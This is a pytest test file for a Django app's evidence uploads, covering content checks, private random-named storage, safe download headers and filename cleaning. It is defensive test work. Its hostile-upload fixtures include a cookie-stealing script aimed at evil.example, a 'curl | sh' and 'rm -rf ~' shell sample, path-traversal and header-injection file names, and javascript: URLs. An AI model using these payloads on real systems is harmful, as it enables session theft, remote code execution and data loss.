"""Evidence: uploads checked by their content, kept in private storage under random names, served as downloads.

Agencies are untrusted: a file is accepted only when its extension is allowed and its first bytes agree
with it; it is stored outside the public media folder under a random name; the name typed by the
uploader is cleaned and kept for display only.
"""

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from PIL import Image

from assessments.models import Evidence, EvidenceKind, Report, ReportEvent
from assessments.reporting import services as report_service
from assessments.reporting.evidence import UploadRefused, check_upload, clean_name
from tests.assessments.reporting import (
    evidence_data,
    evidence_errors,
    flash_messages,
    minimal_pdf,
    report_state,
    vietnamese,
)

pytestmark = pytest.mark.django_db

NOT_ALLOWED = "Files of this type are not accepted. Upload PDF, DOCX, XLSX, ODT, ODS, JPEG or PNG."
WRONG_CONTENT = "The file's content is not a %(type)s file, whatever its name says."
TOO_LARGE = "The file is larger than %(size)d MB."
NUMBER_NEEDED = "Enter the document's number, such as 12/BC-UBND."
DATE_NEEDED = "Enter the document's date."
URL_NEEDED = "Give the web address."
URL_INVALID = "%(label)s must be a whole web address, such as https://ubnd.example.gov.vn/van-ban."
RANDOM_NAME = re.compile(r"^evidence/(?P<report>\d+)/(?P<stem>[0-9a-f]{32})\.(?P<ext>[a-z]+)$")


# Real files of each accepted type.


def docx_bytes() -> bytes:
    """A minimal Word document: the content-types part, the package relations and word/document.xml."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="word/document.xml" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
            "</Relationships>",
        )
        archive.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Báo cáo kết quả chuyển đổi số</w:t></w:r></w:p></w:body></w:document>",
        )
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Chỉ tiêu", "Số lượng"])
    workbook.active.append(["Văn bản ký số", 120])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def image_bytes(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 16), (200, 30, 30)).save(buffer, kind)
    return buffer.getvalue()


ACCEPTED = [
    ("bien-ban-kiem-tra.pdf", minimal_pdf, "pdf", "application/pdf"),
    (
        "bao-cao.docx",
        docx_bytes,
        "docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    ("so-lieu.xlsx", xlsx_bytes, "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("anh-chup.png", lambda: image_bytes("PNG"), "png", "image/png"),
    ("anh-chup.jpg", lambda: image_bytes("JPEG"), "jpg", "image/jpeg"),
    ("anh-chup.jpeg", lambda: image_bytes("JPEG"), "jpg", "image/jpeg"),
]


def upload_url(report, code="1.1") -> str:
    return reverse("reports:add_evidence", args=[report.pk, code])


def back_url(report, group="1", anchor="1-1") -> str:
    return reverse("reports:group", args=[report.pk, group]) + f"#chi-so-{anchor}"


def upload(client, report, name: str, content: bytes, code="1.1"):
    file = SimpleUploadedFile(name, content, "application/octet-stream")
    return client.post(upload_url(report, code), evidence_data(code, kind="file", file=file))


def stored_files(report) -> list[Path]:
    folder = Path(settings.PRIVATE_MEDIA_ROOT) / "evidence" / str(report.pk)
    return sorted(path for path in folder.rglob("*") if path.is_file()) if folder.exists() else []


def raw_multipart(fields: dict[str, str], filename: str, content: bytes, field: str) -> tuple[bytes, str]:
    """A multipart body with the file name exactly as given (the test client would strip folders first)."""
    boundary = "----grenze-2853"
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    parts.append(
        f"--{boundary}\r\n"
        f'Content-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
        "Content-Type: application/pdf\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


# Accepted uploads.


@pytest.mark.parametrize(("name", "make", "extension", "content_type"), ACCEPTED, ids=[row[0] for row in ACCEPTED])
def test_an_accepted_file_is_stored_privately_under_a_random_name(client, world, name, make, extension, content_type):
    content = make()
    client.force_login(world.officer_a)

    response = upload(client, world.report_a, name, content)

    assert response.status_code == 302
    assert response.url == back_url(world.report_a)
    assert flash_messages(response) == [vietnamese("Evidence added to %(code)s.", code="1.1")]
    evidence = Evidence.objects.get(report=world.report_a)
    assert (evidence.code, evidence.kind) == ("1.1", EvidenceKind.FILE)
    assert evidence.original_name == name
    assert evidence.content_type == content_type
    assert evidence.size == len(content)
    assert evidence.created_by == world.officer_a
    match = RANDOM_NAME.match(evidence.file.name)
    assert match, evidence.file.name
    assert (match["report"], match["ext"]) == (str(world.report_a.pk), extension)
    assert Path(name).stem not in evidence.file.name
    path = Path(evidence.file.path).resolve()
    assert path.is_relative_to(Path(settings.PRIVATE_MEDIA_ROOT).resolve())
    assert not path.is_relative_to(Path(settings.MEDIA_ROOT).resolve())
    assert path.read_bytes() == content
    assert stored_files(world.report_a) == [path]
    event = ReportEvent.objects.get(report=world.report_a, action="evidence_added")
    assert (event.user, event.code, event.new) == (world.officer_a, "1.1", {"kind": "file", "file": name})


def test_two_uploads_of_the_same_name_get_different_stored_names(client, world):
    client.force_login(world.officer_a)
    upload(client, world.report_a, "bien-ban.pdf", minimal_pdf("1"))
    upload(client, world.report_a, "bien-ban.pdf", minimal_pdf("2"))
    names = list(Evidence.objects.filter(report=world.report_a).values_list("file", flat=True))
    assert len(set(names)) == 2
    assert len(stored_files(world.report_a)) == 2


def test_the_download_is_an_attachment_with_the_exact_bytes(client, world):
    content = minimal_pdf("Biên bản")
    client.force_login(world.officer_a)
    upload(client, world.report_a, "bien-ban-kiem-tra.pdf", content)
    evidence = Evidence.objects.get(report=world.report_a)

    response = client.get(reverse("reports:evidence", args=[world.report_a.pk, evidence.pk]))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="bien-ban-kiem-tra.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"
    assert {"private", "no-store"} <= {part.strip() for part in response["Cache-Control"].split(",")}
    assert b"".join(response.streaming_content) == content


def test_a_vietnamese_file_name_is_kept_and_sent_encoded(client, world):
    client.force_login(world.officer_a)
    upload(client, world.report_a, "Báo cáo số 12.pdf", minimal_pdf())
    evidence = Evidence.objects.get(report=world.report_a)
    assert evidence.original_name == "Báo cáo số 12.pdf"
    assert RANDOM_NAME.match(evidence.file.name)

    response = client.get(reverse("reports:evidence", args=[world.report_a.pk, evidence.pk]))

    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=utf-8''B%C3%A1o%20c%C3%A1o%20s%E1%BB%91%2012.pdf" in disposition


def test_a_missing_file_on_disk_is_404(client, world):
    client.force_login(world.officer_a)
    upload(client, world.report_a, "bien-ban.pdf", minimal_pdf())
    evidence = Evidence.objects.get(report=world.report_a)
    Path(evidence.file.path).unlink()
    assert client.get(reverse("reports:evidence", args=[world.report_a.pk, evidence.pk])).status_code == 404


@pytest.mark.parametrize(
    ("name", "make", "content_type"),
    [("bien-ban.pdf", minimal_pdf, "application/pdf"), ("anh.png", lambda: image_bytes("PNG"), "image/png")],
)
def test_a_pdf_or_an_image_opens_in_the_browser_in_a_sandbox(client, world, name, make, content_type):
    content = make()
    client.force_login(world.officer_a)
    upload(client, world.report_a, name, content)
    evidence = Evidence.objects.get(report=world.report_a)

    response = client.get(reverse("reports:view_evidence", args=[world.report_a.pk, evidence.pk]))

    assert response.status_code == 200
    assert response["Content-Disposition"] == f'inline; filename="{name}"'
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = [part.strip() for part in response["Content-Security-Policy"].split(";")]
    assert policy[0] == "sandbox"
    assert "default-src 'none'" in policy
    assert "script-src" not in response["Content-Security-Policy"]
    assert {"private", "no-store"} <= {part.strip() for part in response["Cache-Control"].split(",")}
    assert b"".join(response.streaming_content) == content


def test_an_office_document_is_downloaded_not_opened(client, world):
    client.force_login(world.officer_a)
    upload(client, world.report_a, "so-lieu.docx", docx_bytes())
    evidence = Evidence.objects.get(report=world.report_a)

    response = client.get(reverse("reports:view_evidence", args=[world.report_a.pk, evidence.pk]))

    assert response.status_code == 302
    assert response.url == reverse("reports:evidence", args=[world.report_a.pk, evidence.pk])


def test_the_group_page_offers_to_open_a_pdf_and_to_download_it(client, world):
    client.force_login(world.officer_a)
    upload(client, world.report_a, "bien-ban.pdf", minimal_pdf())
    evidence = Evidence.objects.get(report=world.report_a)

    page = client.get(reverse("reports:group", args=[world.report_a.pk, "1"])).content.decode()

    assert f'href="{reverse("reports:view_evidence", args=[world.report_a.pk, evidence.pk])}" target="_blank"' in page
    assert f'href="{reverse("reports:evidence", args=[world.report_a.pk, evidence.pk])}" download' in page


# Hostile uploads: refused with a message, nothing stored.

HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 512
SHELL = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\nrm -rf ~\n"


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a document")
    return buffer.getvalue()


HOSTILE = [
    ("html-as-pdf", "bao-cao.pdf", HTML, WRONG_CONTENT, {"type": "PDF"}),
    ("svg-as-png", "anh.png", SVG, WRONG_CONTENT, {"type": "PNG"}),
    ("exe", "setup.exe", EXE, NOT_ALLOWED, {}),
    ("exe-as-pdf", "setup.pdf", EXE, WRONG_CONTENT, {"type": "PDF"}),
    ("shell-as-docx", "bao-cao.docx", SHELL, WRONG_CONTENT, {"type": "DOCX"}),
    ("zip-as-docx", "bao-cao.docx", None, WRONG_CONTENT, {"type": "DOCX"}),
    ("png-as-pdf", "bao-cao.pdf", None, WRONG_CONTENT, {"type": "PDF"}),
    ("html", "trang.html", HTML, NOT_ALLOWED, {}),
    ("svg", "anh.svg", SVG, NOT_ALLOWED, {}),
    ("no-extension", "bao-cao", None, NOT_ALLOWED, {}),
    ("double-extension", "bao-cao.pdf.exe", EXE, NOT_ALLOWED, {}),
]
SAMPLES = {"zip-as-docx": plain_zip, "png-as-pdf": lambda: image_bytes("PNG"), "no-extension": minimal_pdf}


@pytest.mark.parametrize(("case", "name", "content", "message", "params"), HOSTILE, ids=[row[0] for row in HOSTILE])
def test_a_hostile_upload_is_refused_and_nothing_is_stored(client, world, case, name, content, message, params):
    content = content if content is not None else SAMPLES[case]()
    client.force_login(world.officer_a)
    before = report_state(world.report_a)

    response = upload(client, world.report_a, name, content)

    # The page again, the refusal beside the indicator's upload input.
    assert response.status_code == 400
    assert evidence_errors(response) == {"file": [vietnamese(message, **params)]}
    assert report_state(world.report_a) == before
    assert not Evidence.objects.exists()
    assert stored_files(world.report_a) == []


def test_a_file_over_the_limit_is_refused(client, world, settings):
    settings.EVIDENCE_MAX_BYTES = 1024 * 1024
    big = minimal_pdf() + b"%" + b"0" * (1024 * 1024)  # a PDF by its first bytes, a little over 1 MB
    client.force_login(world.officer_a)
    before = report_state(world.report_a)

    response = upload(client, world.report_a, "bao-cao-lon.pdf", big)

    assert response.status_code == 400
    assert evidence_errors(response) == {"file": [vietnamese(TOO_LARGE, size=1)]}
    assert report_state(world.report_a) == before
    assert stored_files(world.report_a) == []

    # Just under the limit is fine.
    small = minimal_pdf()
    assert flash_messages(upload(client, world.report_a, "bao-cao.pdf", small))[-1] == vietnamese(
        "Evidence added to %(code)s.", code="1.1"
    )
    assert Evidence.objects.filter(report=world.report_a).count() == 1


def test_an_empty_file_is_refused(client, world):
    client.force_login(world.officer_a)
    response = upload(client, world.report_a, "rong.pdf", b"")
    assert response.status_code == 400
    assert evidence_errors(response) == {"file": [vietnamese("The file is empty.")]}
    assert not Evidence.objects.exists()
    assert stored_files(world.report_a) == []


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
        ("bi\x1bên\x07 bản\x7f.pdf", "biên bản.pdf"),
        ("/var/www/static/index.pdf", "index.pdf"),
    ],
    ids=["dot-dot", "backslashes", "control-characters", "absolute"],
)
def test_hostile_file_names_are_cleaned_for_display_and_never_used_for_storage(client, world, sent, shown):
    content = minimal_pdf()
    body, content_type = raw_multipart(evidence_data(kind="file"), sent, content, field="tai-lieu-1-1-file")
    client.force_login(world.officer_a)

    response = client.post(upload_url(world.report_a), body, content_type=content_type)

    assert response.status_code == 302
    evidence = Evidence.objects.get(report=world.report_a)
    assert evidence.original_name == shown
    assert not re.search(r"[\x00-\x1f\x7f/\\]", evidence.original_name)
    assert RANDOM_NAME.match(evidence.file.name)
    assert Path(evidence.file.path).resolve().is_relative_to(Path(settings.PRIVATE_MEDIA_ROOT).resolve())
    assert Path(evidence.file.path).read_bytes() == content
    download = client.get(reverse("reports:evidence", args=[world.report_a.pk, evidence.pk]))
    assert download["Content-Disposition"].startswith("attachment;")
    assert "\n" not in download["Content-Disposition"]


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\boot.ini.pdf", "boot.ini.pdf"),
        ("a\x00b\x1fc\x7f.pdf", "a_b_c_.pdf"),
        ('bao "cao" <1>|2?*:.pdf', "bao _cao_ _1_2_.pdf"),
        ("evil\r\nContent-Type: text-html.pdf", "evil_Content-Type_ text-html.pdf"),
        ("...pdf", "pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ],
)
def test_check_upload_cleans_the_display_name_itself(sent, shown):
    """The view gets names the request parser has already stripped; the check does not rely on it."""
    if "." not in shown:
        with pytest.raises(UploadRefused):
            check_upload(sent, 100, minimal_pdf())
        return
    checked = check_upload(sent, 100, minimal_pdf())
    assert checked.display_name == shown
    assert checked.extension == "pdf"
    assert clean_name(sent) == shown


# Document references and web addresses.


@pytest.mark.parametrize(
    ("fields", "missing"),
    [
        (
            {"document_number": "", "document_date": ""},
            {"document_number": NUMBER_NEEDED, "document_date": DATE_NEEDED},
        ),
        ({"document_number": "12/BC-UBND", "document_date": ""}, {"document_date": DATE_NEEDED}),
        ({"document_number": "", "document_date": "2026-03-02"}, {"document_number": NUMBER_NEEDED}),
    ],
    ids=["neither", "number-only", "date-only"],
)
def test_a_document_reference_needs_its_number_and_date(client, world, fields, missing):
    client.force_login(world.officer_a)
    before = report_state(world.report_a)

    data = evidence_data(kind="document", document_summary="Báo cáo", **fields)
    response = client.post(upload_url(world.report_a), data)

    # Each missing part is asked for beside its own input.
    assert response.status_code == 400
    assert evidence_errors(response) == {name: [vietnamese(message)] for name, message in missing.items()}
    assert report_state(world.report_a) == before


def test_a_document_date_may_be_typed_as_people_write_it(client, world):
    client.force_login(world.officer_a)
    data = evidence_data(kind="document", document_number="12/BC-UBND", document_date="02/03/2026")
    assert client.post(upload_url(world.report_a), data).status_code == 302
    assert str(Evidence.objects.get(report=world.report_a).document_date) == "2026-03-02"


def test_a_document_reference_is_stored_without_a_file(client, world):
    client.force_login(world.officer_a)
    response = client.post(
        upload_url(world.report_a),
        evidence_data(
            kind="document",
            document_number="12/BC-UBND",
            document_date="2026-03-02",
            document_summary="Báo cáo kết quả chuyển đổi số quý I",
        ),
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get(report=world.report_a)
    assert (evidence.kind, evidence.document_number, str(evidence.document_date)) == (
        "document",
        "12/BC-UBND",
        "2026-03-02",
    )
    assert not evidence.file
    assert stored_files(world.report_a) == []
    page = client.get(reverse("reports:group", args=[world.report_a.pk, "1"])).content.decode()
    assert "12/BC-UBND · 02/03/2026 · Báo cáo kết quả chuyển đổi số quý I" in page
    # A reference has no file to download.
    assert client.get(reverse("reports:evidence", args=[world.report_a.pk, evidence.pk])).status_code == 404


def test_a_web_address_is_stored(client, world):
    client.force_login(world.officer_a)
    response = client.post(
        upload_url(world.report_a), evidence_data(kind="url", url="https://xa-a.example.gov.vn/van-ban/12-bc-ubnd")
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get(report=world.report_a)
    assert (evidence.kind, evidence.url) == ("url", "https://xa-a.example.gov.vn/van-ban/12-bc-ubnd")
    page = client.get(reverse("reports:group", args=[world.report_a.pk, "1"])).content.decode()
    assert 'href="https://xa-a.example.gov.vn/van-ban/12-bc-ubnd" rel="noopener noreferrer nofollow"' in page


@pytest.mark.parametrize("address", ["", "javascript:alert(document.cookie)", "data:text/html,<script>x</script>"])
def test_a_missing_or_hostile_web_address_is_refused(client, world, address):
    client.force_login(world.officer_a)
    before = report_state(world.report_a)
    response = client.post(upload_url(world.report_a), evidence_data(kind="url", url=address))
    assert response.status_code == 400
    expected = vietnamese(URL_NEEDED) if not address else vietnamese(URL_INVALID, label="Địa chỉ trang web")
    assert evidence_errors(response) == {"url": [expected]}
    assert report_state(world.report_a) == before


def test_evidence_for_an_unknown_indicator_is_404(client, world):
    client.force_login(world.officer_a)
    data = evidence_data("9.9", kind="url", url="https://example.gov.vn/")
    response = client.post(upload_url(world.report_a, "9.9"), data)
    assert response.status_code == 404
    assert not Evidence.objects.exists()


# Removing.


def test_removing_evidence_deletes_its_file(client, world, django_capture_on_commit_callbacks):
    client.force_login(world.officer_a)
    upload(client, world.report_a, "bien-ban.pdf", minimal_pdf())
    evidence = Evidence.objects.get(report=world.report_a)
    path = Path(evidence.file.path)
    assert path.exists()
    version = Report.objects.get(pk=world.report_a.pk).version

    # The file goes once the removal is committed.
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("reports:remove_evidence", args=[world.report_a.pk, evidence.pk]))

    assert response.status_code == 302
    assert response.url == back_url(world.report_a)
    assert not Evidence.objects.filter(pk=evidence.pk).exists()
    assert not path.exists()
    assert stored_files(world.report_a) == []
    event = ReportEvent.objects.get(report=world.report_a, action="evidence_removed")
    assert (event.user, event.code, event.old) == (world.officer_a, "1.1", {"kind": "file", "file": "bien-ban.pdf"})
    assert Report.objects.get(pk=world.report_a.pk).version == version + 1


def test_a_removal_that_is_rolled_back_keeps_the_file(world):
    """The file goes only when the row's removal is committed: a removal rolled back (by a later failure in the
    same transaction) must leave the evidence downloadable, not a row pointing to a deleted file."""
    evidence = report_service.add_evidence(
        world.report_a.pk,
        "1.1",
        world.officer_a,
        kind="file",
        file=SimpleUploadedFile("upload.pdf", minimal_pdf()),
        original_name="bien-ban.pdf",
        content_type="application/pdf",
        size=1,
    )
    path = Path(evidence.file.path)

    with pytest.raises(RuntimeError), transaction.atomic():
        report_service.remove_evidence(world.report_a.pk, evidence.pk, world.officer_a)
        raise RuntimeError("a later step of the same transaction fails")

    assert Evidence.objects.filter(pk=evidence.pk).exists()
    assert path.exists()


def test_deleting_a_report_deletes_its_files(client, world, django_capture_on_commit_callbacks):
    client.force_login(world.officer_a)
    upload(client, world.report_a, "bien-ban.pdf", minimal_pdf())
    upload(client, world.report_a, "anh.png", image_bytes("PNG"))
    client.force_login(world.officer_b)
    upload(client, world.report_b, "bien-ban.pdf", minimal_pdf())
    paths = [Path(evidence.file.path) for evidence in Evidence.objects.filter(report=world.report_a)]
    assert len(paths) == 2
    assert all(path.exists() for path in paths)

    with django_capture_on_commit_callbacks(execute=True):
        Report.objects.get(pk=world.report_a.pk).delete()

    assert not any(path.exists() for path in paths)
    assert stored_files(world.report_a) == []
    assert len(stored_files(world.report_b)) == 1  # another report's files stay
